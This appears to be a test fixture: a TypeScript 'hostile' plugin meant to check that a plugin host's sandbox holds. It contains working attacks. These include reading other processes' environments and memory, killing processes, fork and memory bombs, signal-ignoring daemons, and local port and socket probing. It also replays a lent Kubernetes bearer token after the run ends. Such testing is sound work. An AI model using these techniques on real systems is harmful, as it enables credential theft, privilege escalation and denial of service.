import { execFileSync, spawn } from "node:child_process";
import {
	closeSync,
	openSync,
	readdirSync,
	readFileSync,
	readlinkSync,
	writeFileSync,
} from "node:fs";
import { request as httpsRequest } from "node:https";
import { connect } from "node:net";
import { networkInterfaces } from "node:os";
import { type ExecuteStreamContext, serveExecutor } from "@quarterdeck/plugin-sdk";

/*
 * A plugin that tries to get what it must not have. The first word after its name says what it tries; it answers what it got, so that a
 * test can look whether anything of worth is in it. It may be used by hand too: put it into a plugin folder as
 * `<repository>/executor_v1.0.0_hostile.ts`.
 */
type Attack = (
	words: readonly string[],
	context: ExecuteStreamContext,
	kubeconfig: string,
) => Promise<string> | string;

let kept = "";

const attacks: Readonly<Record<string, Attack>> = {
	/** Its own variables: what the host gave it. */
	"own-environment": () => JSON.stringify(process.env),
	/** Everyone else's. */
	environments: () =>
		pids()
			.filter((pid) => pid !== String(process.pid))
			.map((pid) => attempt(() => readFileSync(`/proc/${pid}/environ`, "latin1")))
			.join("\n"),
	"command-lines": () =>
		pids()
			.map((pid) => attempt(() => readFileSync(`/proc/${pid}/cmdline`, "latin1")))
			.join("\n"),
	read: (words) =>
		words.map((file) => attempt(() => readFileSync(file, "utf8"))).join("\n"),
	list: (words) =>
		words.map((dir) => attempt(() => readdirSync(dir).join(" "))).join("\n"),
	write: (words) =>
		words
			.map((file) =>
				attempt(() => {
					writeFileSync(file, "was here");
					return "written";
				}),
			)
			.join("\n"),
	/** As many bytes as it can of those it is told, in files of 1 MiB. */
	fill: (words) =>
		attempt(() => {
			const chunk = new Uint8Array(1_048_576);
			for (let count = 0; count * chunk.length < Number(words[0]); count++)
				writeFileSync(`${process.env.HOME}/full-${count}`, chunk);
			return "filled";
		}),
	/** Through the memory of another process, and by signal. */
	assault: (words) =>
		words
			.flatMap((pid) => [
				attempt(() => {
					closeSync(openSync(`/proc/${pid}/mem`, "r"));
					return "opened";
				}),
				attempt(() => (process.kill(Number(pid), "SIGKILL"), "killed")),
				attempt(() => readlinkSync(`/proc/${pid}/root`)),
			])
			.join("\n"),
	/** To be root in a user namespace of its own, and to mount memory there. */
	"user-namespace": () =>
		attempt(() =>
			execFileSync(
				"unshare",
				["--user", "--map-root-user", "--mount", "sh", "-c", "mount -t tmpfs memory /tmp && echo mounted"],
				{ encoding: "utf8" },
			),
		),
	descriptors: () =>
		readdirSync("/proc/self/fd")
			.map((fd) => attempt(() => readlinkSync(`/proc/self/fd/${fd}`)))
			.join("\n"),
	rights: () =>
		[
			attempt(() => (process.setuid?.(0), `uid ${process.getuid?.()}`)),
			readFileSync("/proc/self/status", "utf8"),
		].join("\n"),
	/** A program in a session of its own that outlives everything it can. */
	daemon: (words) => {
		const child = spawn(
			"/bin/sh",
			["-c", "trap '' TERM HUP INT; (trap '' TERM HUP INT; sleep 600 & wait) & while :; do sleep 600; done", words[0] ?? "daemon"],
			{ detached: true, stdio: "ignore", env: {} },
		);
		child.unref();
		return `daemon ${child.pid}`;
	},
	/** The same, and it never ends. */
	stubborn: (words, context) => {
		process.removeAllListeners("SIGTERM");
		process.on("SIGTERM", () => {});
		attacks.daemon?.(words, context, "");
		return new Promise(() => {});
	},
	flood: async (words, context) => {
		const chunk = new Uint8Array(65_536).fill(120);
		for (let left = Number(words[0]); left > 0; left -= chunk.length)
			await context.stdout(chunk.subarray(0, Math.min(left, chunk.length)));
		return "";
	},
	/** Into the log of the agent. */
	babble: async (words) => {
		const text = "a line\n".repeat(Number(words[0]));
		await new Promise((done) => process.stderr.write(text, done));
		return "babbled";
	},
	crash: () => process.exit(3),
	/** The same request again and again with the headers it is given, `name=value`. */
	request: (words, _, kubeconfig) => {
		kept = kubeconfig;
		return send(kubeconfig, words[0] ?? "/", words.slice(1));
	},
	/** With what an earlier run lent it. */
	"go-on": (words) => send(kept, words[0] ?? "/", []),
	/** Goes on by itself after the run has ended, until it is refused. */
	linger: (words, _, kubeconfig) => {
		setInterval(() => {
			send(kubeconfig, words[0] ?? "/", []).catch(() => {});
		}, 50);
		return "lingering";
	},
	/** Takes memory and keeps it, as many MiB as it is told. */
	leak: async (words) => {
		const kept: Uint8Array[] = [];
		for (let count = 0; count < Number(words[0]); count += 8) {
			kept.push(new Uint8Array(8 * 1_048_576).fill(1));
			await new Promise((resolve) => setImmediate(resolve));
		}
		return new Promise(() => kept);
	},
	/** A program of its own does, and holds what it read until the end of its input, which never comes. */
	"leak-child": (words) =>
		new Promise((resolve) => {
			const child = spawn("/bin/sh", ["-c", `(head -c ${Number(words[0]) * 1_048_576} /dev/zero; sleep 600) | tail -c +1 | sort`], { stdio: "ignore" });
			child.on("close", (code) => resolve(`ended ${code}`));
		}),
	/** A segment of shared memory that no process maps, of as many bytes as it is told. */
	segment: (words) =>
		attempt(() => execFileSync("ipcmk", ["-M", words[0] ?? ""], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] })),
	/** Tries each address: `host:port`, or `@name` of an abstract socket; answers what it was told there. */
	dial: (words) =>
		Promise.all(words.map(listenTo)).then((answers) => answers.join("\n")),
	/** Ports that somebody listens on in its network, and its interfaces. */
	neighbours: () =>
		JSON.stringify({
			ports: ["/proc/net/tcp", "/proc/net/tcp6"].flatMap((file) =>
				readFileSync(file, "utf8")
					.split("\n")
					.map((line) => line.trim().split(/\s+/))
					.filter(([, , , state]) => state === "0A")
					.map(([, local = ""]) => Number.parseInt(local.split(":")[1] ?? "", 16)),
			),
			interfaces: Object.keys(networkInterfaces()),
		}),
	/** Looks for other plugins' sockets. */
	sockets: (words) =>
		Promise.all(words.map(dial)).then((answers) => answers.join("\n")),
	fork: () => {
		let count = 0;
		for (; count < 5000; count++) {
			const child = spawn("/bin/sleep", ["600"], { stdio: "ignore", detached: true });
			child.on("error", () => {});
			if (child.pid === undefined) break;
		}
		return `forked ${count}`;
	},
};

function pids(): string[] {
	return readdirSync("/proc").filter((name) => /^\d+$/.test(name));
}

function attempt(act: () => string): string {
	try {
		return act();
	} catch (error) {
		return error instanceof Error && "code" in error ? `refused: ${String(error.code)}` : "refused";
	}
}

function listenTo(address: string): Promise<string> {
	const [host = "", port = ""] = address.split(/:(?=\d+$)/);
	const socket = address.startsWith("@")
		? connect(`\0${address.slice(1)}`)
		: connect(Number(port), host);
	socket.setTimeout(3000, () => socket.destroy(new Error("silent")));
	return new Promise((resolve) => {
		let said = "";
		socket.setEncoding("utf8").on("data", (text: string) => {
			said += text;
		});
		socket.on("end", () => resolve(`told ${said}`));
		socket.on("error", () => resolve("refused"));
	});
}

function dial(path: string): Promise<string> {
	return new Promise((resolve) => {
		const socket = connect(path);
		socket.on("connect", () => {
			socket.destroy();
			resolve("connected");
		});
		socket.on("error", () => resolve("refused"));
	});
}

function send(kubeconfig: string, path: string, extra: readonly string[]): Promise<string> {
	const server = /server: (\S+)/.exec(kubeconfig)?.[1] ?? "https://127.0.0.1:1";
	const token = /token: (\S+)/.exec(kubeconfig)?.[1] ?? "";
	const headers = Object.fromEntries(extra.map((text) => text.split(/=(.*)/).slice(0, 2)));
	return new Promise((resolve) => {
		const request = httpsRequest(
			new URL(path, server),
			{ rejectUnauthorized: false, agent: false, headers: { authorization: `Bearer ${token}`, ...headers } },
			(answer) => {
				let body = "";
				answer.setEncoding("utf8");
				answer.on("data", (text: string) => {
					body += text;
				});
				answer.on("end", () => resolve(`${answer.statusCode} ${body}`));
				answer.on("error", () => resolve("broke off"));
			},
		);
		request.on("error", (error) => resolve(`failed: ${error.message}`));
		request.end();
	});
}

await serveExecutor({
	name: "hostile",
	version: "v1.0.0",
	description: "Tries to get what it must not have.",
	help: { baseBody: { plaintext: "hostile ATTACK [WORD…]" } },
	async executeStream(request, context) {
		const [, attack = "", ...words] = request.words ?? [];
		const act = attacks[attack];
		if (!act) throw new Error(`no attack ${attack}`);
		const kubeconfig = new TextDecoder().decode(request.kubeconfig);
		const got = await act(words, context, kubeconfig);
		await context.stdout(new TextEncoder().encode(got));
		return { exitCode: 0 };
	},
});
